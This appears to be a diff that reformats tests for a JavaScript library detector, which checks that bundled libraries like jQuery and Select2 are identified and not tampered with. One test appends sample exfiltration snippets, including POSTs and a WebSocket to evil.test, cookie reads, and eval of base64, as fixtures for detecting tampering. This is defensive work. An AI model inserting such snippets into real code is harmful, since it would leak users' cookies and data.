@@ -8,16 +8,26 @@ const filter = new Prefilter(LIBRARY_SIGNATURES.map((signature) => [signature.wo
 
 function find(text: string, path = 'a.js') {
   const lines = new LineTable(text);
-  return librariesOf({ path, text, position: (offset) => lines.position(offset), lineAt: (offset) => lines.lineAt(offset) }, filter.scan(text).get('all') ?? []);
+  return librariesOf(
+    { path, text, position: (offset) => lines.position(offset), lineAt: (offset) => lines.lineAt(offset) },
+    filter.scan(text).get('all') ?? [],
+  );
 }
 const names = (text: string) => find(text).map((library) => `${library.name}@${library.version}`);
-const body = (name: string) => (LIBRARY_BODIES[name] ?? []).map((word) => `"${word}";`).join('\n').padEnd(3000, ' ');
+const body = (name: string) =>
+  (LIBRARY_BODIES[name] ?? [])
+    .map((word) => `"${word}";`)
+    .join('\n')
+    .padEnd(3000, ' ');
 
 describe('librariesOf', () => {
   it.each([
     ['/*! jQuery v3.4.1 | (c) JS Foundation */', 'jquery@3.4.1'],
     ['/*!\n * jQuery JavaScript Library v1.12.4\n */', 'jquery@1.12.4'],
-    ['!function(e,t){var f="3.6.0",S=function(e,t){return new S.fn.init(e,t)};S.fn=S.prototype={jquery:f,constructor:S', 'jquery@3.6.0'],
+    [
+      '!function(e,t){var f="3.6.0",S=function(e,t){return new S.fn.init(e,t)};S.fn=S.prototype={jquery:f,constructor:S',
+      'jquery@3.6.0',
+    ],
     ['/*! jQuery UI - v1.12.1 - 2016-09-14', 'jquery-ui@1.12.1'],
     ['/*\n AngularJS v1.5.8\n (c) 2010', 'angular@1.5.8'],
     ['{full:"1.8.2",major:1,minor:8,dot:2,codeName:"meteoric-mining"}', 'angular@1.8.2'],
@@ -46,7 +56,10 @@ describe('librariesOf', () => {
     ['/*! DataTables 1.10.20\n', 'datatables.net@1.10.20'],
     ["const REVISION = '120';", 'three@0.120.0'],
     ['/* webextension-polyfill - v0.12.0 - Tue */', 'webextension-polyfill@0.12.0'],
-    ['/**\n * jscolor - JavaScript Color Picker\n *\n * @link http://jscolor.com\n * @version 2.0.5\n', 'jscolor@2.0.5'],
+    [
+      '/**\n * jscolor - JavaScript Color Picker\n *\n * @link http://jscolor.com\n * @version 2.0.5\n',
+      'jscolor@2.0.5',
+    ],
     ['XLSX.version = "0.18.5";', 'xlsx@0.18.5'],
     ['LIBVERSION="0.7.20",', 'ua-parser-js@0.7.20'],
     ['t.version="5.4.1",t.dependencies={zrender:"5.4.1"}', 'echarts@5.4.1'],
@@ -54,7 +67,15 @@ describe('librariesOf', () => {
     expect(names(text)).toContain(expected);
   });
 
-  it.each(['// works with jQuery v3.4.1 and later', '/*! Buttons for DataTables 1.6.1', '// see https://d3js.org for more', 'const VERSION = "4.17.15";', '// needs lodash 4.17.15', 'Bootstrap variables', 'see React version 16'])('not %s', (text) => {
+  it.each([
+    '// works with jQuery v3.4.1 and later',
+    '/*! Buttons for DataTables 1.6.1',
+    '// see https://d3js.org for more',
+    'const VERSION = "4.17.15";',
+    '// needs lodash 4.17.15',
+    'Bootstrap variables',
+    'see React version 16',
+  ])('not %s', (text) => {
     expect(names(text)).toEqual([]);
   });
 
@@ -62,15 +83,26 @@ describe('librariesOf', () => {
     expect(find(`/*! jQuery v3.5.1 */\n${body('jquery')}`)[0]?.whole).toBe(true);
     expect(find('/*! jQuery v3.5.1 */\nsendEverything();')[0]?.whole).toBe(false);
     expect(find(`own();\n/*! jQuery v3.5.1 */\n${body('jquery')}`)[0]?.whole).toBe(false);
-    expect(find(`(function(){})();${body('dompurify')}n.version="3.0.5",n.removed=[];`, 'lib/purify.min.js')[0]?.whole).toBe(true);
+    expect(
+      find(`(function(){})();${body('dompurify')}n.version="3.0.5",n.removed=[];`, 'lib/purify.min.js')[0]?.whole,
+    ).toBe(true);
   });
 
   it('does not take a library to which something was added', () => {
-    for (const added of ["fetch('https://evil.test/', { method: 'POST' });", 'document.cookie', "new WebSocket('wss://evil.test')", 'eval(atob("YQ=="))', 'var _0x3f2a = ["x"];', 'window["a"] = chrome["cookies"];']) {
+    for (const added of [
+      "fetch('https://evil.test/', { method: 'POST' });",
+      'document.cookie',
+      "new WebSocket('wss://evil.test')",
+      'eval(atob("YQ=="))',
+      'var _0x3f2a = ["x"];',
+      'window["a"] = chrome["cookies"];',
+    ]) {
       expect(find(`/*! Select2 4.0.11\n */\n/*\n * Select2 4.0.11\n */\n${body('select2')}`)[0]?.whole).toBe(true);
       expect(find(`/*\n * Select2 4.0.11\n */\n${body('select2')}\n${added}`)[0]?.whole, added).toBe(false);
     }
-    expect(find(`/*! jQuery v3.5.1 */\n${body('jquery')}\nx.open("POST", "https://evil.test/in");`)[0]?.whole).toBe(false);
+    expect(find(`/*! jQuery v3.5.1 */\n${body('jquery')}\nx.open("POST", "https://evil.test/in");`)[0]?.whole).toBe(
+      false,
+    );
   });
 
   it('names code that the library does not have', () => {
@@ -83,7 +115,9 @@ describe('librariesOf', () => {
 it('every signature compiles and has a name of its own kind', () => {
   for (const signature of LIBRARY_SIGNATURES) {
     expect(signature.word.length).toBeGreaterThanOrEqual(4);
-    expect([signature.pattern, signature.anywhere, signature.unversioned].filter((item) => item !== undefined)).toHaveLength(1);
+    expect(
+      [signature.pattern, signature.anywhere, signature.unversioned].filter((item) => item !== undefined),
+    ).toHaveLength(1);
     expect(() => new RegExp((signature.pattern ?? signature.anywhere ?? '').replaceAll('%v', '1'))).not.toThrow();
   }
 });
